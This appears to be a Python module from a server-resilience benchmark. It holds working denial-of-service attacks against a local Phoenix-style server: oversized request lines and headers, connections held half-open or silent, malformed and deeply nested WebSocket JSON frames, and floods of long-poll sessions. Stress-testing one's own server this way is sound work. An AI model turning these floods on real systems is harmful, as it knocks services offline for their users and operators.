"""Attacks: functions of the target that return the server's answer."""

from __future__ import annotations

import contextlib
import http.client
import json
import select
import socket
import time
from collections import Counter
from collections.abc import Callable, Iterable, Iterator
from typing import Any, Final

from bench.abuse.wire import PATIENCE_S, Target, text_frame, upgrade

MIB: Final = 1 << 20
KEPT_S: Final = 7.0
"""Time after which a connection without a complete request counts as kept for ever."""


def nothing(target: Target) -> str:
    """Do nothing, to measure the honest client under the machine's other load."""
    time.sleep(KEPT_S)
    return ""


def long_url(target: Target) -> str:
    """Send a request line of 100 MiB."""
    return _send(target, [b"GET /" + b"a" * MIB, *[b"a" * MIB] * 99])


def many_headers(target: Target) -> str:
    """Send 300 MiB of headers, of which each is small."""
    header = b"x-filler: " + b"a" * 990 + b"\r\n"
    return _send(target, [b"GET / HTTP/1.1\r\nhost: x\r\n", *[header * 1024] * 300])


def one_header(target: Target) -> str:
    """Send one header of 100 MiB."""
    return _send(target, [b"GET / HTTP/1.1\r\nhost: x\r\nx: ", *[b"a" * MIB] * 100])


def half_handshakes(target: Target) -> str:
    """Open 800 connections that send half a handshake, and count those that are kept."""
    return _hold(target, 800, target.request()[:100])


def silent_sockets(target: Target) -> str:
    """Open 500 connections that send nothing, and count those that are kept."""
    return _hold(target, 500, b"")


def bad_requests(target: Target) -> str:
    """Send 2,000 requests that are not HTTP."""
    return _counted(_send(target, [b"\x16\x03\x01nonsense\r\n\r\n"]) for _ in range(2_000))


def huge_message(target: Target) -> str:
    """Send one JSON message of 60 MiB with nested objects and duplicate keys."""
    return _message(target, _with_pairs(60 * MIB), 1)


def costly_messages(target: Target) -> str:
    """Send 200 messages of just under 64 KiB whose keys are all the same."""
    return _message(target, _with_pairs(65_000), 200)


def deep_messages(target: Target) -> str:
    """Send 200 messages that nest 900 lists in a ref."""
    deep = b"[" * 900 + b"]" * 900
    return _message(target, b"[" + deep + b',"1","phoenix","heartbeat",{}]', 200)


def long_topics(target: Target) -> str:
    """Send 200 joins of a topic of 60,000 characters."""
    return _message(target, json.dumps(["1", "1", "x" * 60_000, "phx_join", {}]).encode(), 200)


def poll_sessions(target: Target) -> str:
    """Begin 2,000 long-poll sessions, of which none polls."""
    with _http(target) as client:
        return _counted(_polled(target, client, "GET")["status"] for _ in range(2_000))


def poll_bodies(target: Target) -> str:
    """Send 50 long-poll requests of 1 MB of heartbeats, and 50 of 1 MB of nested lists."""
    with _http(target) as client:
        answers = []
        heartbeat = b'[null,"1","phoenix","heartbeat",{}]\n'
        for body in (heartbeat * (1_000_000 // len(heartbeat)), b"[" * 1_000_000):
            for _ in range(50):
                token = _polled(target, client, "GET").get("token", "")
                answers.append(_polled(target, client, "POST", token, body)["status"])
        return _counted(answers)


ATTACKS: Final[dict[str, Callable[[Target], str]]] = {
    attack.__name__: attack
    for attack in (
        *(
            nothing,
            long_url,
            many_headers,
            one_header,
            half_handshakes,
            silent_sockets,
            bad_requests,
        ),
        *(huge_message, costly_messages, deep_messages, long_topics),
        *(poll_sessions, poll_bodies),
    )
}


def _with_pairs(size: int) -> bytes:
    pairs = b",".join([b'"a":{"b":1}'] * (size // 12))
    return b'["1","1","t","e",{' + pairs + b"}]"


def _send(target: Target, parts: Iterable[bytes]) -> str:
    with target.connect() as connection:
        with contextlib.suppress(OSError):
            for part in parts:
                connection.sendall(part)
        return _answer(connection)


def _answer(connection: socket.socket) -> str:
    """Return the first line of the server's response, or the reason why there is none."""
    try:
        return connection.recv(4096).split(b"\r\n")[0].decode("latin-1") or "closed"
    except OSError as error:
        return type(error).__name__


def _message(target: Target, message: bytes, times: int) -> str:
    """Send a message, and return the kinds of frames that come back."""
    with target.connect() as connection:
        upgrade(connection, target)
        frame = text_frame(message)
        with contextlib.suppress(OSError):
            for _ in range(times):
                connection.sendall(frame)
                if select.select([connection], [], [], 0)[0]:
                    break
        try:
            data = connection.recv(1 << 16)
        except OSError as error:
            return type(error).__name__
        return _described(data)


def _described(data: bytes) -> str:
    if data[:1] == b"\x88":
        return f"close {int.from_bytes(data[2:4], 'big')}"
    return "closed" if not data else f"a frame: {data[2:60]!r}"


def _http(target: Target) -> contextlib.closing[http.client.HTTPConnection]:
    source = (target.source, 0)
    return contextlib.closing(
        http.client.HTTPConnection("127.0.0.1", target.port, PATIENCE_S, source)
    )


def _polled(
    target: Target,
    client: http.client.HTTPConnection,
    method: str,
    token: str = "",
    body: bytes = b"",
) -> dict[str, Any]:
    """Send a long-poll request, and return the JSON of its response."""
    path = f"/socket/longpoll?vsn=2.0.0&token={token}"
    headers = {"content-type": "application/x-ndjson"}
    if target.token:
        headers["x-phoenix-authtoken"] = target.token
    client.request(method, path, body, headers)
    response = client.getresponse()
    text = response.read()
    if response.status != 200:
        return {"status": response.status, "token": ""}
    answer: dict[str, Any] = json.loads(text)
    return answer


def _hold(target: Target, count: int, sent: bytes) -> str:
    with contextlib.ExitStack() as stack:
        held = [stack.enter_context(one) for one in _opened(target, count)]
        for connection in held:
            with contextlib.suppress(OSError):
                connection.sendall(sent)
        time.sleep(KEPT_S)
        ended, _, _ = select.select(held, [], [], 0)
        answers = _counted(_answer(connection) for connection in ended)
        return f"{len(held) - len(ended)} of {count} kept; {answers}"


def _opened(target: Target, count: int) -> Iterator[socket.socket]:
    for _ in range(count):
        yield target.connect()


def _counted(answers: Iterable[object]) -> str:
    return ", ".join(f"{count} x {answer}" for answer, count in Counter(answers).items())
